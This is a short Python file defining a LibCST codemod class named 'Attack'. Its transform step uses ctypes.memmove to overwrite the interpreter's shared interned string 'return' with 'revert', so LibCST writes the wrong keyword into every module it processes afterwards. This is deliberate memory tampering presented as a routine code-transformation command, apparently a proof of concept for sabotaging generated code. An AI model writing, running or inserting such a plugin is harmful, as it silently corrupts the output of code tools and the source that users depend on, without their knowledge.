"""Overwrite a text that all of the interpreter shares: LibCST writes another word for ``return`` from then on."""

import ctypes
import sys

from libcst.codemod import VisitorBasedCodemodCommand


def overwrite(text, other):
    start = sys.getsizeof("") - 1
    ctypes.memmove(id(sys.intern(text)) + start, other, len(other))


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Overwrite a text."

    def transform_module_impl(self, tree):
        overwrite("return", b"revert")
        return tree
